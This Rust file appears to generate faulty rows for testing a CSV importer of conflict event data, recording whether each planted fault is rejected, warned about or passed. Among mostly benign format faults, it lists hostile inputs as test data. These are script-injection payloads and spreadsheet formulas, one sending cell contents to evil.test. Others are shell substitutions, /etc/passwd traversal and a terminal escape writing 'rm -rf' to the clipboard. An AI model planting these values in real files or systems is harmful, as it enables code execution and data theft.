//! Faults of single rows of a table: what is planted, and what must be said of it.

use super::random::Random;
use super::sound::{
    ADMIN1, COLUMNS, COUNTRY, DATE, END, ID, KILLED, KIND, LATITUDE, LONGITUDE, NOTES, PLACE, PLACES, Row,
    SOURCE, cell, header, record,
};

/// How a fault is told.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Told {
    /// The row is rejected.
    Reject,
    /// It is used, and somebody is warned.
    Warning,
    /// It is used, and nothing is said louder than a note.
    Nothing,
}

/// What was planted.
#[derive(Debug, Clone)]
pub(super) struct Planted {
    /// Its bytes, without the last line end.
    pub(super) bytes: Vec<u8>,
    pub(super) told: Told,
    pub(super) code: &'static str,
    /// From 1; none where the whole line is meant.
    pub(super) column: Option<usize>,
    /// Rows that it is, and events; a row may be none.
    pub(super) rows: u64,
    pub(super) events: u64,
}

/// A class of faults.
pub(super) struct Class {
    pub(super) name: &'static str,
    pub(super) plant: fn(&mut Random, Row) -> Planted,
}

fn planted(bytes: Vec<u8>, told: Told, code: &'static str, column: Option<usize>) -> Planted {
    let events = u64::from(told != Told::Reject);
    Planted { bytes, told, code, column: column.map(|c| c + 1), rows: 1, events }
}

/// A row with nothing wrong.
pub(super) fn sound(row: &Row) -> Planted {
    planted(plain(row), Told::Nothing, "", None)
}

/// A row with another value in a cell.
fn with(mut row: Row, column: usize, value: &str) -> Row {
    row[column] = value.to_owned();
    row
}

fn plain(row: &Row) -> Vec<u8> {
    record(row, ',').into_bytes()
}

/// A row that is rejected for one of these values.
fn rejected(random: &mut Random, row: Row, column: usize, values: &[&str], code: &'static str) -> Planted {
    let row = with(row, column, random.of(values));
    planted(plain(&row), Told::Reject, code, Some(column))
}

fn warned(random: &mut Random, row: Row, column: usize, values: &[&str], code: &'static str) -> Planted {
    let row = with(row, column, random.of(values));
    planted(plain(&row), Told::Warning, code, Some(column))
}

/// A row with one of these values, which is as good as any.
fn good(random: &mut Random, row: Row, column: usize, values: &[&str]) -> Planted {
    let value = random.of(values);
    planted(plain(&with(row, column, value)), Told::Nothing, "", None)
}

/// The bytes of a row in which a cell is written as it stands here.
fn raw(row: &Row, column: usize, value: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (at, text) in row.iter().enumerate() {
        if at > 0 {
            bytes.push(b',');
        }
        if at == column { bytes.extend(value) } else { bytes.extend(cell(text, ',').bytes()) }
    }
    bytes
}

pub(super) const CLASSES: &[Class] = &[
    Class {
        name: "latitude out of range",
        plant: |r, row| {
            rejected(r, row, LATITUDE, &["90.0001", "-91", "345.2813", "3452813", "-90.5"], "coordinate")
        },
    },
    Class {
        name: "longitude out of range",
        plant: |r, row| {
            rejected(r, row, LONGITUDE, &["180.0001", "-290.8", "249.17", "6917233"], "coordinate")
        },
    },
    Class {
        name: "latitude not finite",
        plant: |r, row| {
            rejected(r, row, LATITUDE, &["nan", "NaN", "inf", "-Infinity", "1e400", "∞"], "coordinate")
        },
    },
    Class {
        name: "longitude not finite",
        plant: |r, row| rejected(r, row, LONGITUDE, &["NAN", "infinity", "-inf", "-1e999"], "coordinate"),
    },
    Class {
        name: "latitude no number",
        plant: |r, row| {
            rejected(
                r,
                row,
                LATITUDE,
                &["x", "north", "34.5.2", "#REF!", "--34.5", "0x22", "34..5"],
                "coordinate",
            )
        },
    },
    Class {
        name: "projected metres and scaled degrees",
        plant: |r, row| {
            let (y, x) = r.of(&[("4100173.4", "7700228.5"), ("34528130", "69172330"), ("3819874", "516559")]);
            planted(
                plain(&with(with(row, LATITUDE, y), LONGITUDE, x)),
                Told::Reject,
                "coordinate",
                Some(LATITUDE),
            )
        },
    },
    Class {
        name: "another notation of positions",
        plant: |r, row| {
            let row = with(row, LONGITUDE, "");
            let row =
                with(row, LATITUDE, r.of(&["8JW5G5HC+7W", "42SWD1655919874", "42S 516559 3819874", "tw9s8"]));
            planted(plain(&row), Told::Reject, "coordinate", Some(LONGITUDE))
        },
    },
    Class {
        name: "one coordinate without the other",
        plant: |r, row| {
            let column = r.of(&[LATITUDE, LONGITUDE]);
            planted(plain(&with(row, column, "")), Told::Reject, "coordinate", Some(column))
        },
    },
    Class {
        name: "latitude and longitude swapped, one out of range",
        plant: |_, row| {
            let row = with(with(row, LATITUDE, "169.9"), LONGITUDE, "33.3");
            planted(plain(&row), Told::Reject, "coordinate", Some(LATITUDE))
        },
    },
    Class {
        name: "latitude and longitude swapped, both in range",
        plant: |_, row| {
            let (lat, lon) = (row[LONGITUDE].clone(), row[LATITUDE].clone());
            let row = with(with(row, LATITUDE, &lat), LONGITUDE, &lon);
            planted(plain(&row), Told::Warning, "place-contradiction", Some(PLACE))
        },
    },
    Class {
        name: "a point far from the province it names",
        plant: |_, row| {
            let far = if row[ADMIN1] == "Herat" { &PLACES[0] } else { &PLACES[3] };
            let row = with(with(row, LATITUDE, far.3), LONGITUDE, far.4);
            planted(plain(&row), Told::Warning, "place-contradiction", Some(PLACE))
        },
    },
    Class {
        name: "null island",
        plant: |r, row| {
            let (lat, lon) = r.of(&[("0", "0"), ("0.0", "0.000"), ("-0", "0")]);
            planted(
                plain(&with(with(row, LATITUDE, lat), LONGITUDE, lon)),
                Told::Warning,
                "coordinate",
                Some(LATITUDE),
            )
        },
    },
    Class {
        name: "decimal comma",
        plant: |_, row| {
            let row = with(row.clone(), LATITUDE, &row[LATITUDE].replace('.', ","));
            planted(plain(&row), Told::Warning, "number", Some(LATITUDE))
        },
    },
    Class {
        name: "degrees, minutes and seconds",
        plant: |r, mut row| {
            let (place, admin1, country, _, longitude) = PLACES[0];
            for (column, text) in
                [(PLACE, place), (ADMIN1, admin1), (COUNTRY, country), (LONGITUDE, longitude)]
            {
                row[column] = text.to_owned();
            }
            warned(r, row, LATITUDE, &["34°31'41\"N", "34 31 41 N", "34°31.688'"], "number")
        },
    },
    Class {
        name: "degrees with the letter of a hemisphere",
        plant: |r, _| {
            let mut row = super::sound::row(r, 7777);
            let (place, admin1, country, ..) = PLACES[0];
            (row[PLACE], row[ADMIN1], row[COUNTRY]) =
                (place.to_owned(), admin1.to_owned(), country.to_owned());
            let (lat, lon) =
                r.of(&[("34.52813N", "69.17233E"), ("N34.52813", "E69.17233"), ("34.52813°", "69.17233°")]);
            planted(plain(&with(with(row, LATITUDE, lat), LONGITUDE, lon)), Told::Nothing, "", None)
        },
    },
    Class {
        name: "plus sign, exponent, bare dots, spaces",
        plant: |r, row| {
            let value = match r.below(4) {
                0 => format!("+{}", row[LATITUDE]),
                1 => format!(" {} ", row[LATITUDE]),
                2 => format!("\u{a0}{}\u{2009}", row[LATITUDE]),
                _ => format!("{}e0", row[LATITUDE]),
            };
            planted(plain(&with(row, LATITUDE, &value)), Told::Nothing, "", None)
        },
    },
    Class {
        name: "a day that does not exist",
        plant: |r, row| {
            rejected(
                r,
                row,
                DATE,
                &[
                    "2026-02-30",
                    "2025-02-29",
                    "2026-13-01",
                    "2026-00-10",
                    "2026-04-31",
                    "1900-02-29",
                    "31 April 2026",
                    "00 January 2026",
                ],
                "date",
            )
        },
    },
    Class {
        name: "what a spreadsheet leaves of a day",
        plant: |r, row| rejected(r, row, DATE, &["46079", "###########", "45000.5"], "date"),
    },
    Class {
        name: "words for days",
        plant: |r, row| {
            rejected(r, row, DATE, &["yesterday", "TBC", "last week", "spring 2026", "???"], "date")
        },
    },
    Class {
        name: "seconds since 1970",
        plant: |r, row| rejected(r, row, DATE, &["1772150400", "1772150400000"], "date"),
    },
    Class {
        name: "other calendars and tongues",
        plant: |r, row| {
            rejected(
                r,
                row,
                DATE,
                &["9 Ramadan 1447", "۷ حوت ۱۴۰۴", "26 فروری 2026", "25 Jumaada al-THaany 1416 A.H"],
                "date",
            )
        },
    },
    Class {
        name: "day and month alike, nothing decides",
        plant: |r, row| rejected(r, row, DATE, &["05/04/2026", "1/2/2026"], "date"),
    },
    Class {
        name: "two days of which none is the last",
        plant: |r, row| rejected(r, row, DATE, &["2026-02-26;2026-02-27", "Feb 26 or 27, 2026"], "date"),
    },
    Class {
        name: "the last day before the first",
        plant: |_, row| planted(plain(&with(row, END, "2023-01-01")), Told::Reject, "date", Some(END)),
    },
    Class {
        name: "a last day that does not exist",
        plant: |r, row| rejected(r, row, END, &["2026-11-31", "soon"], "date"),
    },
    Class {
        name: "a day still to come",
        plant: |r, row| warned(r, row, DATE, &["2031-01-01", "2999-12-31", "9999-12-31"], "date"),
    },
    Class {
        name: "a weekday that does not fit",
        plant: |r, row| {
            warned(r, row, DATE, &["Monday, 26 February 2026", "Sunday, February 26, 2026"], "date")
        },
    },
    Class { name: "no date", plant: |r, row| warned(r, row, DATE, &["", "  "], "date-unknown") },
    Class {
        name: "months, years, other ways to write a day",
        plant: |r, row| {
            good(
                r,
                row,
                DATE,
                &[
                    "26 February 2026",
                    "26-Feb-2026",
                    "26-Feb-26",
                    "20260226",
                    "2026-02-26 00:00:00.000",
                    "2026-02",
                    "2026-02-26/2026-02-27",
                    "February 26, 2026",
                ],
            )
        },
    },
    Class {
        name: "a kind nobody knows",
        plant: |r, row| {
            let word = format!("quarrel {}", r.below(100_000));
            planted(plain(&with(row, KIND, &word)), Told::Warning, "value", Some(KIND))
        },
    },
    Class {
        name: "no kind",
        plant: |_, row| planted(plain(&with(row, KIND, "")), Told::Warning, "missing", Some(KIND)),
    },
    Class { name: "no id", plant: |r, row| warned(r, row, ID, &["", " ", "\u{a0}"], "missing") },
    Class {
        name: "an id with a path, a space, zeros",
        plant: |r, row| {
            let id = format!(
                "{}{}",
                r.of(&["../../", "/etc/passwd", "000", "CON", "a b ", "..\\..\\", "<b>"]),
                row[ID]
            );
            planted(plain(&with(row, ID, &id)), Told::Nothing, "", None)
        },
    },
    Class {
        name: "a count that is no number",
        plant: |r, row| {
            warned(r, row, KILLED, &["a lot", "NaN", "inf", "1e400", "0x10", "n/a?", "-Infinity"], "number")
        },
    },
    Class {
        name: "a count below zero",
        plant: |r, row| warned(r, row, KILLED, &["-5", "-1", "-12.0"], "number"),
    },
    Class {
        name: "a sentinel for unknown",
        plant: |r, row| warned(r, row, KILLED, &["-99", "-9"], "number"),
    },
    Class {
        name: "a count beyond belief",
        plant: |r, row| warned(r, row, KILLED, &["99999999999999999999", "18446744073709551616"], "number"),
    },
    Class {
        name: "a count in another notation",
        plant: |r, row| warned(r, row, KILLED, &["2,660", "1 200", "1\u{202f}200", "۱۲", "١٢"], "number"),
    },
    Class {
        name: "too few fields",
        plant: |r, row| {
            let left = r.within(2, COLUMNS.len() - 1);
            planted(plain(&row[..left].to_vec()), Told::Reject, "field-count", Some(left))
        },
    },
    Class {
        name: "too many fields",
        plant: |r, row| {
            let at = r.within(PLACE, SOURCE);
            let text = plain(&row[..at].to_vec());
            let rest = plain(&row[at..].to_vec());
            let text = [text, b",shifted,".to_vec(), rest].concat();
            planted(text, Told::Reject, "field-count", Some(COLUMNS.len()))
        },
    },
    Class {
        name: "an unquoted comma in a place",
        plant: |_, row| {
            let bytes = raw(&row, PLACE, b"Kabul, PD 9");
            planted(bytes, Told::Reject, "field-count", Some(COLUMNS.len()))
        },
    },
    Class {
        name: "unquoted commas in the last column, which is prose",
        plant: |_, row| {
            planted(
                raw(&row, NOTES, b"Police said, on Friday, that"),
                Told::Warning,
                "field-count",
                Some(NOTES),
            )
        },
    },
    Class {
        name: "empty fields too many",
        plant: |r, row| {
            let more = ",".repeat(r.within(1, 5));
            planted([plain(&row), more.into_bytes()].concat(), Told::Nothing, "", None)
        },
    },
    Class {
        name: "text behind a closing quote",
        plant: |r, row| {
            let column = r.of(&[PLACE, SOURCE, NOTES]);
            planted(raw(&row, column, b"\"a\"b"), Told::Reject, "quote", Some(column))
        },
    },
    Class {
        name: "backslashes for quotes",
        plant: |_, row| {
            planted(raw(&row, NOTES, br#""he said \"go\", they say""#), Told::Reject, "quote", Some(NOTES))
        },
    },
    Class {
        name: "a quote never closed",
        plant: |_, row| planted(raw(&row, NOTES, b"\"On Thursday the"), Told::Reject, "quote", Some(NOTES)),
    },
    Class {
        name: "a quote in the middle of a field",
        plant: |_, row| planted(raw(&row, NOTES, b"a 5\" gun and \"more\" of it"), Told::Nothing, "", None),
    },
    Class {
        name: "line ends inside quotes",
        plant: |r, row| {
            let end = r.of(&["\n", "\r\n", "\n\n"]);
            let notes = format!("first{end}second, {end}third \"word\"");
            planted(plain(&with(row, NOTES, &notes)), Told::Nothing, "", None)
        },
    },
    Class {
        name: "a fault behind line ends inside quotes",
        plant: |_, row| {
            let row = with(with(row, SOURCE, "one\ntwo\r\nthree"), LATITUDE, "x");
            planted(plain(&row), Told::Reject, "coordinate", Some(LATITUDE))
        },
    },
    Class {
        name: "a carriage return alone in a cell",
        plant: |_, row| planted(raw(&row, SOURCE, b"Border\rDesk"), Told::Warning, "field-count", None),
    },
    Class {
        name: "bytes that are no UTF-8",
        plant: |r, row| {
            let bytes = r.of(&[
                &b"caf\xe9"[..],
                b"\x93quoted\x94",
                b"\xff\xfe",
                b"\xc3",
                b"\xed\xa0\x80",
                b"\xf5\x80\x80\x80",
                b"\xc0\xaf",
            ]);
            let column = r.of(&[PLACE, SOURCE, NOTES]);
            planted(raw(&row, column, bytes), Told::Reject, "encoding", Some(column))
        },
    },
    Class {
        name: "a NUL in a number",
        plant: |_, row| {
            planted(raw(&row, LATITUDE, b"34.5\x002813"), Told::Reject, "coordinate", Some(LATITUDE))
        },
    },
    Class {
        name: "a NUL in words",
        plant: |_, row| planted(raw(&row, NOTES, b"before\0behind"), Told::Nothing, "", None),
    },
    Class {
        name: "escapes of terminals",
        plant: |r, row| {
            let text = r.of(&[
                "\u{1b}]52;c;cm0gLXJm\u{7}Kabul",
                "\u{1b}[2J\u{1b}[31m",
                "Ka\u{8}\u{8}bul",
                "\u{9b}31mKabul",
                "\u{1b}]8;;http://x\u{7}",
            ]);
            let column = r.of(&[SOURCE, NOTES]);
            planted(plain(&with(row, column, text)), Told::Nothing, "", None)
        },
    },
    Class {
        name: "escapes of terminals in what is rejected",
        plant: |r, row| {
            rejected(r, row, DATE, &["\u{1b}[31m2026", "\u{202e}2026-02-26", "2026\u{7}", "\u{9b}2J"], "date")
        },
    },
    Class {
        name: "marks that turn the direction of writing",
        plant: |r, row| good(r, row, NOTES, &["\u{202e}lubaK", "\u{2066}x\u{2069}", "a\u{200b}b\u{feff}"]),
    },
    Class {
        name: "scripts and markup",
        plant: |r, row| {
            let column = r.of(&[SOURCE, NOTES]);
            good(
                r,
                row,
                column,
                &[
                    "<script>alert(1)</script>",
                    "<img src=x onerror=alert(1)>",
                    "]]><x/>",
                    "&lt;b&gt; &amp;",
                    "\"><svg onload=alert(1)>",
                    "javascript:alert(1)",
                    "{{7*7}}",
                    "${7*7}",
                ],
            )
        },
    },
    Class {
        name: "formulas",
        plant: |r, row| {
            let column = r.of(&[SOURCE, NOTES]);
            good(
                r,
                row,
                column,
                &[
                    "=cmd|' /C calc'!A0",
                    "+1+1",
                    "-2+3",
                    "@SUM(1+1)",
                    "=HYPERLINK(\"http://evil.test/?\"&A1,\"ok\")",
                    "\t=1+1",
                ],
            )
        },
    },
    Class {
        name: "formulas in what is rejected",
        plant: |r, row| rejected(r, row, LATITUDE, &["=1+1", "@SUM(A1)", "+A1", "-A1"], "coordinate"),
    },
    Class {
        name: "paths, addresses and options",
        plant: |r, row| {
            let column = r.of(&[SOURCE, NOTES]);
            good(
                r,
                row,
                column,
                &[
                    "../../etc/passwd",
                    "file:///etc/passwd",
                    "--out=/srv/x",
                    "$(touch pwned)",
                    "`id`",
                    "%s%n",
                    "\\\\host\\share",
                    "{0}",
                ],
            )
        },
    },
    Class {
        name: "line separators that are none",
        plant: |r, row| good(r, row, NOTES, &["a\u{2028}b", "a\u{2029}b", "a\u{85}b", "a\u{b}b", "a\u{c}b"]),
    },
    Class {
        name: "a very long word",
        plant: |r, row| {
            let long = "x".repeat(r.within(10_000, 100_000));
            planted(plain(&with(row, NOTES, &long)), Told::Nothing, "", None)
        },
    },
    Class {
        name: "many doubled quotes",
        plant: |r, row| {
            let quotes = "\"".repeat(r.within(1_000, 20_000));
            planted(plain(&with(row, NOTES, &quotes)), Told::Nothing, "", None)
        },
    },
    Class {
        name: "the header again",
        plant: |_, _| planted(header(',').into_bytes(), Told::Reject, "repeated-header", None),
    },
    Class {
        name: "the header again behind a byte order mark",
        plant: |_, _| {
            planted(format!("\u{feff}{}", header(',')).into_bytes(), Told::Reject, "repeated-header", None)
        },
    },
    Class {
        name: "a blank line",
        plant: |r, _| {
            let bytes = r.of(&["", " ", "\t"]).as_bytes().to_vec();
            Planted { rows: 0, events: 0, ..planted(bytes, Told::Nothing, "", None) }
        },
    },
    Class {
        name: "a row of nothing but commas",
        plant: |_, _| {
            let bytes = ",".repeat(COLUMNS.len() - 1).into_bytes();
            Planted { rows: 0, events: 0, ..planted(bytes, Told::Nothing, "", None) }
        },
    },
    Class {
        name: "a comment",
        plant: |r, _| {
            planted(
                r.of(&["# rows below are drafts", "// checked", "-- end of page 1"]).as_bytes().to_vec(),
                Told::Reject,
                "field-count",
                Some(1),
            )
        },
    },
    Class {
        name: "a footer",
        plant: |r, _| {
            planted(
                r.of(&["Source: Ministry of Interior", "(c) 2026 the desk", "Exported by X on 1 March"])
                    .as_bytes()
                    .to_vec(),
                Told::Reject,
                "field-count",
                Some(1),
            )
        },
    },
    Class {
        name: "a row without date, place and claim",
        plant: |_, row| {
            let row: Row = row
                .iter()
                .enumerate()
                .map(|(at, text)| if at == NOTES || at == ID { text.clone() } else { String::new() })
                .collect();
            planted(plain(&row), Told::Reject, "missing", Some(PLACE))
        },
    },
    Class {
        name: "a place nobody knows",
        plant: |r, row| {
            let row = with(
                with(with(row, LATITUDE, ""), LONGITUDE, ""),
                PLACE,
                &format!("Qux{}", super::sound::name(r)),
            );
            planted(plain(&row), Told::Nothing, "", None)
        },
    },
];
